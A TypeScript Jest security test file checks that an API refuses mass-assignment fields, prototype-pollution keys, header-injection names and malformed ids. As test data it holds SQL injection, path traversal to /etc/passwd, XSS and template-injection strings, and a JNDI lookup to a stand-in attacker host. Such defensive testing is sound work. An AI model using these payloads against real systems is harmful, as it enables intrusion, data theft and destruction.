/**
 * What nobody sends who means well, to every operation that the API describes: fields that are not known, text that is
 * code elsewhere, ids that are none. The operations, their bodies and their texts come from the description.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { EXAMPLE_IDS } from '../../apps/api/openapi/examples.js';
import type { Problem } from '../../libs/contracts/problem.js';
import { VISIBLE_LINE, VISIBLE_TEXT } from '../../libs/input/storable-text.js';
import { ApiServer, type SignedIn } from './api-server.js';
import { aboutPlan, described, type Described, pathOf } from './plan-operations.js';
import { type WellFilledPlan, wellFilledPlan } from './well-filled-plan.js';

type Json = Readonly<Record<string, unknown>>;

let api: ApiServer;
let plan: WellFilledPlan;
/** Somebody with every role that there is in an organisation. */
let powerful: SignedIn;

beforeAll(async () => {
  api = await ApiServer.start('2027-03-01T09:00:00.000Z');
  plan = await wellFilledPlan(api);
  const roles = ['practitioner', 'coordinator', 'teamLeader', 'administrator', 'auditor'] as const;
  powerful = await api.person(await api.organisation('Kommunen'), [...roles]);
}, 120_000);
afterAll(() => api.stop());

function isObject(value: unknown): value is Json {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function withBodies(): (Described & { readonly example: Json })[] {
  return described(api).filter((operation): operation is Described & { readonly example: Json } =>
    isObject(operation.example),
  );
}

function anywhere({ path }: Described): string {
  return path
    .replace('/api/v1', '')
    .replace('{section}', 'challenges')
    .replace('{version}', '1')
    .replaceAll(/\{\w+\}/g, () => randomUUID());
}

describe('a field that is not known', () => {
  /** Rights, ownership and what the server decides by itself: nobody gives themselves any of it. */
  const fields = {
    organisationRoles: ['administrator'],
    roles: ['coordinator'],
    coordinatorPersonId: randomUUID(),
    personId: randomUUID(),
    actor: { kind: 'process' },
    policy: {},
    seq: 1,
    number: 'KI-1',
    createdAt: '2020-01-01T00:00:00Z',
    isAdministrator: true,
  };

  it('is refused by its name in every body, also in what is nested', async () => {
    const tried = withBodies();
    expect(tried.length).toBeGreaterThan(50);
    for (const operation of tried) {
      const added = Object.entries(fields).filter(
        ([name]) => !JSON.stringify(operation.schema).includes(`"${name}"`),
      );
      expect(added.length).toBeGreaterThan(4);
      const body = { ...operation.example, ...Object.fromEntries(added) };
      const answer = await api.ask(powerful, operation.method, anywhere(operation)).send(body);
      const problem = answer.body as Problem;
      expect([operation.id, answer.status, problem.code]).toEqual([operation.id, 400, 'REQUEST.INVALID']);
      const named = problem.errors.map(({ field }) => field);
      expect([operation.id, named]).toEqual([
        operation.id,
        expect.arrayContaining(added.map(([name]) => `/${name}`)) as unknown as string[],
      ]);
    }
  }, 60_000);

  it.each(['__proto__', 'constructor', 'prototype'])(
    'is refused by its name, also where it is called %s',
    async (name) => {
      for (const operation of withBodies()) {
        const text = JSON.stringify(operation.example).replace(
          '{',
          `{${JSON.stringify(name)}:{"polluted":true},`,
        );
        const answer = await api
          .ask(powerful, operation.method, anywhere(operation))
          .type('json')
          .send(text.replace(',}', '}'));
        const { code, errors } = answer.body as Problem;
        expect([operation.id, answer.status, code]).toEqual([operation.id, 400, 'REQUEST.INVALID']);
        expect([operation.id, errors.map(({ field }) => field)]).toEqual([operation.id, [`/${name}`]]);
      }
      expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
    },
    60_000,
  );

  it.each(['__proto__', 'constructor', 'prototype', 'nothing'])(
    'is refused in every query that is read, also where it is called %s',
    async (name) => {
      const tried = described(api).filter(({ method, queries }) => method === 'get' && queries.length > 0);
      expect(tried.length).toBeGreaterThan(5);
      for (const operation of tried) {
        const answer = await api.get(powerful, `${pathOf(operation, plan)}?${name}=1`);
        const { code, errors } = answer.body as Problem;
        if (answer.status === 403) continue;
        expect([operation.id, answer.status, code]).toEqual([operation.id, 400, 'REQUEST.INVALID']);
        expect([operation.id, errors.map(({ field }) => field)]).toEqual([
          operation.id,
          expect.arrayContaining([`/${name}`]) as unknown as string[],
        ]);
      }
    },
  );

  it('is told plainly where it stands in the address several times', async () => {
    const answer = await api.get(powerful, '/plans?limit=1&phase=consent&limit=2');
    expect([answer.status, (answer.body as Problem).errors]).toEqual([
      400,
      [{ field: '/limit', expected: expect.stringContaining('several times') as unknown as string }],
    ]);
  });
});

describe('text whose letters would be lost', () => {
  it('is refused before anything is kept, in every body', async () => {
    for (const operation of withBodies()) {
      const text = JSON.stringify(operation.example).replace(/"([^"]*)"(?=[,}])/, '"Søren"');
      if (!text.includes('Søren')) continue;
      const answer = await api
        .ask(powerful, operation.method, anywhere(operation))
        .type('json')
        .serialize((content: Buffer) => content as unknown as string)
        .send(Buffer.from(text, 'latin1'));
      const { code, detail } = answer.body as Problem;
      expect([operation.id, answer.status, code]).toEqual([operation.id, 400, 'REQUEST.NOT_UTF8']);
      expect(detail).toContain('UTF-8');
    }
  }, 60_000);

  it('is a name only as long as it is one line', async () => {
    const body = {
      givenName: 'Else\r\nBcc: x',
      familyName: 'A\u202eB',
      channel: 'letter',
      cpr: '0101904025',
    };
    const answer = await api.ask(powerful, 'post', '/citizens').send(body);
    expect([answer.status, (answer.body as Problem).errors.map(({ field }) => field)]).toEqual([
      400,
      ['/givenName', '/familyName'],
    ]);
  });
});

describe('a mail address', () => {
  it.each([
    [' else.test@borger.example\u00a0', 'else.test@borger.example'],
    ['else.test@blåbærgrød.example', 'else.test@xn--blbrgrd-fxak7p.example'],
    ['else.test@xn--blbrgrd-fxak7p.example', 'else.test@xn--blbrgrd-fxak7p.example'],
  ])('%j is kept as one form of it', async (email, kept) => {
    const body = { givenName: 'Else', familyName: 'Test', channel: 'mail', email };
    const made = await api.ask(powerful, 'post', '/people').send(body);
    expect(made.status).toBe(201);
    const { personId } = made.body as { personId: string };
    expect((await api.get(powerful, `/people/${personId}`)).body).toMatchObject({ email: kept });
  });
});

describe('an id that is none', () => {
  it.each([
    "' OR 1=1 --",
    '../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    '%00',
    '<script>alert(1)</script>',
    '0b8f3c52-6c1e-4d8a-9d35-1f0c2b7a4e01;DROP TABLE plans',
    '9'.repeat(1_000),
    '\u202e',
    '${jndi:ldap://evil.example}',
    '*',
  ])(
    'is refused wherever it stands in a path: %s',
    async (hostile) => {
      for (const operation of described(api)) {
        if (!operation.path.includes('{')) continue;
        const encoded = hostile.includes('%') ? hostile : encodeURIComponent(hostile);
        const path = operation.path.replace('/api/v1', '').replaceAll(/\{\w+\}/g, encoded);
        const answer = await api
          .ask(powerful, operation.method, path)
          .send(operation.example as object | undefined);
        expect([operation.id, [400, 403, 404, 415].includes(answer.status)]).toEqual([operation.id, true]);
        expect(answer.headers['content-type']).toContain('application/problem+json');
        expect(JSON.stringify(answer.body)).not.toContain('DROP TABLE');
      }
    },
    60_000,
  );
});

describe('a day at the edge of the calendar', () => {
  /** Every text of the example that is a day or an instant, far away; null if there is none. */
  function faraway(example: Json, day: string): Json | null {
    const text = JSON.stringify(example);
    const moved = text
      .replaceAll(/"\d{4}-\d{2}-\d{2}"/g, `"${day}"`)
      .replaceAll(/"\d{4}-\d{2}-\d{2}T[^"]*"/g, `"${day}T23:59:59.999Z"`);
    return moved === text ? null : (JSON.parse(moved) as Json);
  }

  it.each(['1900-01-01', '1919-12-31', '2101-01-01', '2200-12-31'])(
    'is refused wherever it is named: %s',
    async (day) => {
      let tried = 0;
      for (const operation of withBodies()) {
        const body = faraway(operation.example, day);
        if (body === null) continue;
        tried += 1;
        const test = api.ask(powerful, operation.method, anywhere(operation));
        const answer = await test.send(JSON.parse(aboutPlan(JSON.stringify(body), plan)) as object);
        const { code } = answer.body as Problem;
        expect([operation.id, answer.status, code]).toEqual([operation.id, 400, 'REQUEST.INVALID']);
      }
      expect(tried).toBeGreaterThan(8);
    },
  );
});

describe('a cursor that no list gave out', () => {
  const values = [1.5, 2_147_483_648, -1e300, 'x', 'a\0b', '\ud83d', '2027-03-01T09:00:00.000Z', null, {}];
  const places = [
    ...values.map((value) => [value]),
    ...values.map((value) => ['2027-03-01T09:00:00.000Z', value]),
    ...values.flatMap((value) => [
      ['2027-03-01T09:00:00.000Z', EXAMPLE_IDS.plan, value],
      ['2027-03-01T09:00:00.000Z', value, 1],
      ['a', 'b', value],
    ]),
  ];

  it('is refused, or read as a place at which nothing is, by every list', async () => {
    const lists = described(api).filter(({ queries }) => queries.includes('cursor'));
    expect(lists.length).toBeGreaterThan(5);
    for (const operation of lists) {
      const path = pathOf(operation, plan);
      for (const place of places) {
        const cursor = Buffer.from(JSON.stringify(place)).toString('base64url');
        for (const who of [powerful, plan.people.coordinator]) {
          const answer = await api.get(who, `${path}?cursor=${cursor}`);
          expect([operation.id, place, answer.status < 500]).toEqual([operation.id, place, true]);
        }
      }
    }
  }, 60_000);
});

describe('text that is code elsewhere', () => {
  /** They would end what the others are tried on; their texts are reasons like those of the others. */
  const ENDING = [
    'endPlan',
    'holdPlan',
    'recordDeath',
    'removeParticipant',
    'replaceParticipant',
    'withdrawConsent',
    'nameCoordinator',
    'resignCoordinator',
  ];

  function hostile(place: string): string {
    return `'; DROP TABLE plans; --"><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}%s\\u0000 ${place}`;
  }

  /** Whether a schema takes any text: of no fixed form and none of a list. */
  function isFreeText(schema: unknown): boolean {
    if (!isObject(schema)) return false;
    const options = (schema['anyOf'] ?? schema['oneOf']) as unknown[] | undefined;
    if (options !== undefined) return options.some(isFreeText);
    return (
      schema['type'] === 'string' &&
      (schema['pattern'] === VISIBLE_TEXT || schema['pattern'] === VISIBLE_LINE) &&
      schema['format'] === undefined
    );
  }

  /** The body with hostile text in every field that takes text, and that text. */
  function poisoned(value: unknown, schema: unknown, place: string, texts: string[]): unknown {
    if (!isObject(schema)) return value;
    if (isFreeText(schema) && !(typeof value === 'string' && /^[0-9a-f-]{36}$/.test(value))) {
      const text = hostile(place);
      texts.push(text);
      return text;
    }
    const options = ((schema['anyOf'] ?? schema['oneOf'] ?? []) as unknown[]).filter(isObject);
    if (options.length > 0) {
      const fitting = options.find((option) => fits(value, option));
      return fitting === undefined ? value : poisoned(value, fitting, place, texts);
    }
    if (Array.isArray(value)) {
      return value.map((item: unknown, index) =>
        poisoned(item, schema['items'], `${place}/${String(index)}`, texts),
      );
    }
    const properties = schema['properties'] as Json | undefined;
    if (!isObject(value) || properties === undefined) return value;
    return Object.fromEntries(
      Object.entries(value).map(([name, inner]) => [
        name,
        poisoned(inner, properties[name], `${place}/${name}`, texts),
      ]),
    );
  }

  function fits(value: unknown, option: Json): boolean {
    if (Array.isArray(value)) return option['type'] === 'array';
    if (!isObject(value)) return false;
    const properties = (option['properties'] ?? {}) as Record<string, Json>;
    return Object.entries(properties).every(
      ([name, schema]) => schema['const'] === undefined || schema['const'] === value[name],
    );
  }

  /** Everything of the plan and the register that can be read. */
  async function everything(): Promise<string> {
    const read: string[] = [];
    for (const operation of described(api)) {
      if (operation.method !== 'get' || operation.path.startsWith('/health')) continue;
      const { coordinator, citizen, teamLeader } = plan.people;
      const path = pathOf(operation, plan).replace(EXAMPLE_IDS.agreement, citizen.personId);
      for (const who of [coordinator, citizen, teamLeader, powerful]) {
        const answer = await api.get(who, path);
        expect([operation.id, answer.status < 500]).toEqual([operation.id, true]);
        if (answer.status === 200) read.push(answer.text);
      }
    }
    return read.join('\n');
  }

  /** What an operation made beside the plan at hand, as it is read. */
  async function madeBy({ personId, planId }: Json): Promise<string> {
    const { coordinator } = plan.people;
    if (typeof personId === 'string') return (await api.get(powerful, `/people/${personId}`)).text;
    return typeof planId === 'string' ? (await api.get(coordinator, `/plans/${planId}`)).text : '';
  }

  it('is taken and given back as text, and runs nowhere', async () => {
    const kept: string[] = [];
    const made: string[] = [];
    const operations = withBodies().filter(({ id, method }) => method !== 'get' && !ENDING.includes(id));
    for (const operation of operations) {
      const texts: string[] = [];
      const example = JSON.parse(aboutPlan(JSON.stringify(operation.example), plan)) as Json;
      const body = poisoned(example, operation.schema, operation.id, texts) as object;
      for (const who of [plan.people.coordinator, powerful]) {
        const test = api.ask(who, operation.method, pathOf(operation, plan));
        if (operation.id === 'saveSection') test.set('If-Match', '"1"');
        const answer = await test.send(body);
        expect([operation.id, answer.status < 500]).toEqual([operation.id, true]);
        if (answer.status >= 300) continue;
        kept.push(...texts);
        made.push(await madeBy(answer.body as Json));
      }
    }
    const read = `${await everything()}\n${made.join('\n')}`;
    const lost = kept.filter((text) => !read.includes(JSON.stringify(text).slice(1, -1)));
    // How somebody signs in is kept as a hash; a citizen or a plan that is there already is answered as it was.
    const unread = lost.filter((text) => !/ (?:startPlan|registerCitizen)\/|\/employeeId$/.test(text));
    expect(kept.length).toBeGreaterThan(20);
    expect(unread).toEqual([]);
    const [{ tables } = { tables: 0 }] = await api.database.query<{ tables: number }[]>(
      `SELECT count(*)::int AS tables FROM information_schema.tables WHERE table_name IN ('plans', 'plan_events')`,
    );
    expect(tables).toBe(2);
  }, 120_000);
});
